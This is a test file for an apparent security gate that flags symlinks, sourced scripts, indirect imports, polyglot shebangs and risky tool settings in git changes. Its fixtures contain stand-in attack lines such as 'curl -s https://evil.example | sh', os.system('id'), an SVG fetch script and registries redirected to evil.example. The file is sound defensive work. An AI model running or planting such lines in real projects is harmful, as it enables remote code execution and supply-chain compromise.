import { afterEach, describe, expect, it } from 'vitest';
import { openChange } from '../changes/open.ts';
import { TestRepositories, type TestRepository, type Written } from '../git/repository.fixture.ts';
import type { OpenChange, Skipped, Unit } from '../unit.ts';

const repositories = new TestRepositories();
const open: OpenChange[] = [];
afterEach(() => {
  for (const change of open.splice(0)) change.close();
  repositories.removeAll();
});

type Files = Readonly<Record<string, Written>>;

/** What the gate makes of the change from some files to others. */
async function examined(base: Files, head: Files): Promise<{ units: Unit[]; skipped: Skipped[] }> {
  const repository: TestRepository = repositories.make();
  repository.commit(base);
  repository.commit(head);
  const change = await openChange(repository.folder, { base: 'HEAD~1', head: 'HEAD' });
  open.push(change);
  const [units, skipped]: [Unit[], Skipped[]] = [[], []];
  for await (const { unit, skipped: left } of change.pieces()) {
    if (unit !== undefined) units.push(unit);
    if (left !== undefined) skipped.push(left);
  }
  return { units, skipped };
}

async function textIn(units: readonly Unit[], name: string, file: string): Promise<string | undefined> {
  const side = (await units.find((unit) => unit.name === name)?.load())?.head;
  const found = side?.sample.files.find(({ path }) => path === file);
  return found && Buffer.from(found.content).toString();
}

const EVIL = 'import os\nos.system("id")\n';

describe('a link', () => {
  it('is examined under its own name: text that nothing runs becomes a module by it', async () => {
    const { units, skipped } = await examined(
      { 'main.py': 'print(1)\n' },
      {
        'main.py': 'try:\n    import helper\nexcept ImportError:\n    pass\n',
        'notes.txt': EVIL,
        'helper.py': { link: 'notes.txt' },
      },
    );
    expect(units.map(({ name }) => name)).toEqual(['helper.py', 'main.py']);
    expect(await textIn(units, 'helper.py', 'helper.py')).toBe(EVIL);
    expect(await textIn(units, 'main.py', 'helper.py')).toBe(EVIL);
    expect(skipped.map(({ file }) => file)).toEqual(['notes.txt']);
  });

  it('of a folder leads what imports from it there', async () => {
    const { units } = await examined(
      { 'main.py': 'print(1)\n', 'far/away/helper.py': EVIL },
      { 'main.py': 'from lib import helper\n', lib: { link: 'far/away' } },
    );
    expect(await textIn(units, 'main.py', 'lib/helper.py')).toBe(EVIL);
  });

  it('that leads nowhere in the commit, in a circle or over links out of it needs a person', async () => {
    const { units, skipped } = await examined(
      {},
      {
        'gone.py': { link: 'made/later.py' },
        'a.py': { link: 'b.py' },
        'b.py': { link: 'a.py' },
        'deep/out': { link: '../up' },
        up: { link: '../..' },
        'x.py': { link: 'deep/out/x.py' },
        'AGENTS.md': { link: 'README.md' },
        'README.md': 'Read me.\n',
      },
    );
    expect(units).toEqual([]);
    expect(
      skipped
        .filter(({ needsReview }) => needsReview)
        .map(({ file }) => file)
        .sort(),
    ).toEqual(['a.py', 'b.py', 'deep/out', 'gone.py', 'up', 'x.py']);
  });
});

describe('what runs through others', () => {
  it('is examined with the script that sources it, whatever it is called', async () => {
    const { units } = await examined(
      { 'deploy.sh': 'set -a\n. ./.env\nsource conf/site.conf\n', '.env': 'A=1\n', 'conf/site.conf': 'B=1\n' },
      { '.env': 'A=$(curl -s https://evil.example | sh)\n', 'conf/site.conf': 'B=$(id)\n' },
    );
    expect(units.map(({ name, files }) => [name, files])).toEqual([['deploy.sh', ['.env', 'conf/site.conf']]]);
    expect(await textIn(units, 'deploy.sh', '.env')).toContain('evil.example');
    expect(await textIn(units, 'deploy.sh', 'conf/site.conf')).toContain('id');
  });

  it('is examined with its program although it imports that in turn, and although tests import the program', async () => {
    const { units } = await examined(
      {
        'main.py': 'import helper\nhelper.f(1)\n',
        'tests/test_main.py': 'import main\n',
        'helper.py': 'def f(x): pass\n',
      },
      { 'helper.py': 'import main\ndef f(x): print(x)\n', 'other.py': 'import main\n' },
    );
    expect(units.map(({ name }) => name)).toEqual(['helper.py', 'other.py', 'main.py', 'tests/test_main.py']);
  });

  it.each([
    ['try: import helper\nexcept ImportError: pass\n', 'main.py'],
    ['import os; import helper\n', 'main.py'],
    ['import importlib\nimportlib.import_module( "helper" )\n', 'main.py'],
    ['__import__("helper")\n', 'main.py'],
    ['import runpy\nrunpy.run_path("helper.py")\n', 'main.py'],
    ['exec(open("helper.py").read())\n', 'main.py'],
    ['const h = require ("./helper.py");\n', 'main.js'],
    ['const h = require(/* it */ "./helper.py");\n', 'main.js'],
    ['import(\n  /* @vite-ignore */ "./helper.py"\n);\n', 'main.mjs'],
  ])('is found however it is named: %j', async (source, main) => {
    const { units } = await examined({ [main]: source, 'helper.py': 'A = 1\n' }, { 'helper.py': EVIL });
    expect(units.map(({ name }) => name)).toContain(main);
    expect(await textIn(units, main, 'helper.py')).toBe(EVIL);
  });
});

it('a file that its name and its first line call two languages needs a person; one that they call alike does not', async () => {
  const { skipped } = await examined(
    {},
    {
      'build.js': '#!/bin/bash\n":" //# ; curl -s https://evil.example | sh ; exit\nconsole.log(1);\n',
      'tool.py': '#!/usr/bin/perl\nprint 1;\n',
      'a.ts': '#!/usr/bin/env node\nlet a = 1;\n',
      'b.py': '#!/usr/bin/env -S uv run --script\nprint(1)\n',
      'c.js': '#!/usr/bin/env bun\nlet a = 1;\n',
    },
  );
  expect(skipped.map(({ file, needsReview }) => [file, needsReview])).toEqual([
    ['build.js', true],
    ['tool.py', true],
  ]);
});

describe('settings', () => {
  const START: readonly (readonly [path: string, line: string])[] = [
    ['.npmrc', 'script-shell=./tools/shell'],
    ['web/.npmrc', '@corp:registry=https://evil.example/'],
    ['pip.conf', 'index-url = https://evil.example/simple'],
    ['.yarnrc.yml', 'yarnPath: .yarn/x.cjs'],
    ['.env', 'NODE_OPTIONS=--require ./notes.txt'],
    ['.env.production', 'KEY=$(curl https://evil.example)'],
    ['pyproject.toml', 'backend-path = ["."]'],
    ['tox.ini', 'commands = sh -c "curl https://evil.example | sh"'],
    ['composer.json', '"scripts": {"post-install-cmd": "id"},'],
    ['.vscode/settings.json', '"python.defaultInterpreterPath": "./x",'],
    ['.cargo/config.toml', 'runner = "./x"'],
    ['pom.xml', '<plugin><artifactId>exec-maven-plugin</artifactId></plugin>'],
    ['gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://evil.example/gradle.zip'],
    ['logo.svg', '<svg><script>fetch("//evil.example")</script></svg>'],
    ['fix.patch', '+curl https://evil.example'],
  ];

  it.each(START)('that name what is run need a person: %s', async (path, line) => {
    const { skipped } = await examined({ [path]: 'old\n' }, { [path]: `old\n${line}\n` });
    expect(skipped).toMatchObject([{ file: path, needsReview: true }]);
  });

  it('that named it before, or name nothing, do not', async () => {
    const files = { 'package-lock.json': '{}\n', 'docs/config.toml': 'title = "x"\n' };
    const old = Object.fromEntries(START.filter(([path]) => !path.endsWith('.patch')));
    const { skipped } = await examined(old, {
      ...files,
      ...Object.fromEntries(Object.entries(old).map(([path, line]) => [path, `other\n${line}\n`])),
    });
    expect(skipped).toHaveLength(Object.keys(old).length + 2);
    expect(skipped.filter(({ needsReview }) => needsReview)).toEqual([]);
  });
});
